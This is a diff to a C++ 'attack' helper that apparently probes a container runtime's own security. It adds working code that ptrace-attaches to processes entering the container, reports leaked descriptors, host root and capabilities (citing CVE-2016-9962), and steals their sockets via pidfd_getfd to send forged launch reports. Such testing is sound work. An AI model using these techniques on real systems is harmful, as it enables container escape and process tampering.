@@ -4,6 +4,8 @@
 //
 //   attack exchange A B         exchanges two names, again and again, until it is killed
 //   attack own-binary           tries to write into the program of each runtime process that appears, until killed
+//   attack watch                tells what each process that appears lets be seen of itself, until it is killed
+//   attack forge                takes the sockets of each process that appears, and reports by them, until it is killed
 //   attack writable FOLDER...   files that are for writing and open so, and folders in which one can be made
 #include <dirent.h>
 #include <fcntl.h>
@@ -12,6 +14,8 @@
 #include <linux/mount.h>
 #include <sched.h>
 #include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
@@ -22,6 +26,8 @@
 #include <csignal>
 #include <cstdio>
 #include <cstdlib>
+#include <cstring>
+#include <fstream>
 #include <set>
 #include <string>
 #include <string_view>
@@ -127,6 +133,103 @@ Outcome unwrap(int program, pid_t runtime) {
   }
 }
 
+// ---- what a process that enters the container carries (CVE-2016-9962)
+
+std::string status_field(const std::string& folder, const std::string& name) {
+  std::ifstream status(folder + "/status");
+  for (std::string line; std::getline(status, line);) {
+    if (line.starts_with(name)) return line.substr(line.find('\t') + 1);
+  }
+  return "";
+}
+
+std::string kind_of(const std::string& path) {
+  struct stat info{};
+  if (::stat(path.c_str(), &info) < 0) return "";
+  return S_ISDIR(info.st_mode)    ? "folder"
+         : S_ISREG(info.st_mode)  ? "file"
+         : S_ISFIFO(info.st_mode) ? "fifo"
+         : S_ISSOCK(info.st_mode) ? "socket"
+                                  : "device";
+}
+
+void tell_descriptors(const std::string& folder) {
+  DIR* fds = ::opendir((folder + "/fd").c_str());
+  while (dirent* entry = fds == nullptr ? nullptr : ::readdir(fds)) {
+    tell("seen");
+    std::string path = folder + "/fd/" + entry->d_name, kind = kind_of(path);
+    // The first three are what the caller wants it to have.
+    if (kind != "" && std::atoi(entry->d_name) > 2) tell(kind + " " + link_of(path));
+  }
+  if (fds != nullptr) ::closedir(fds);
+}
+
+[[noreturn]] void watch() {
+  auto own = std::strtoull(status_field("/proc/self", "CapBnd").c_str(), nullptr, 16);
+  struct stat root{};
+  ::stat("/", &root);
+  tell("ready");
+  for (;;) {
+    at_processes([&](int pid, const std::string& folder) {
+      tell_descriptors(folder);
+      struct stat other{};
+      if (::stat((folder + "/root").c_str(), &other) == 0 &&
+          (other.st_dev != root.st_dev || other.st_ino != root.st_ino))
+        tell("root of the host's");
+      auto has = std::strtoull(status_field(folder, "CapPrm").c_str(), nullptr, 16);
+      if ((has & ~own) != 0) tell("capabilities of the host's");
+      if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) < 0) return;
+      tell("attached");
+      // Stopped it shows what it has at leisure.
+      ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
+      int status = 0;
+      if (::waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) tell_descriptors(folder);
+      ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
+    });
+  }
+}
+
+// A launch reports by packets: a kind, a code in four bytes, a text; and descriptors (runtime/launch/launch.h).
+void report(int socket, char kind, bool with_descriptor) {
+  char text[] = {kind, 0, 0, 0, 0, 'f', 'o', 'r', 'g', 'e', 'd'};
+  iovec part{text, sizeof(text)};
+  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
+  msghdr message{};
+  message.msg_iov = &part;
+  message.msg_iovlen = 1;
+  int pipe[2] = {-1, -1};
+  if (with_descriptor && ::pipe(pipe) == 0) {
+    message.msg_control = control;
+    message.msg_controllen = sizeof(control);
+    cmsghdr* header = CMSG_FIRSTHDR(&message);
+    header->cmsg_level = SOL_SOCKET;
+    header->cmsg_type = SCM_RIGHTS;
+    header->cmsg_len = CMSG_LEN(sizeof(int));
+    std::memcpy(CMSG_DATA(header), &pipe[1], sizeof(int));
+  }
+  if (::sendmsg(socket, &message, MSG_NOSIGNAL | MSG_DONTWAIT) > 0) tell("forged");
+  for (int end : pipe) {
+    if (end >= 0) ::close(end);
+  }
+}
+
+[[noreturn]] void forge() {
+  tell("ready");
+  for (unsigned turn = 0;;) {
+    at_processes([&](int pid, const std::string&) {
+      int process = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
+      for (int number = 3; process >= 0 && number < 8; ++number) {
+        int socket = static_cast<int>(::syscall(SYS_pidfd_getfd, process, number, 0));
+        if (socket < 0) continue;
+        ++turn;
+        report(socket, static_cast<char>(turn % 4 + 1), turn % 2 == 0);
+        ::close(socket);
+      }
+      if (process >= 0) ::close(process);
+    });
+  }
+}
+
 // ---- what is open to writing
 
 int tell_writable(const char* path, const struct stat* info, int kind, struct FTW*) {
@@ -151,6 +254,8 @@ int main(int argc, char** argv) {
   std::string verb = argc > 1 ? argv[1] : "";
   if (verb == "exchange" && argc == 4) exchange(argv[2], argv[3]);
   if (verb == "own-binary") take_own_binary();
+  if (verb == "watch") watch();
+  if (verb == "forge") forge();
   if (verb != "writable") return 2;
   for (int i = 2; i < argc; ++i) ::nftw(argv[i], tell_writable, 64, FTW_PHYS | FTW_ACTIONRETVAL);
   return 0;
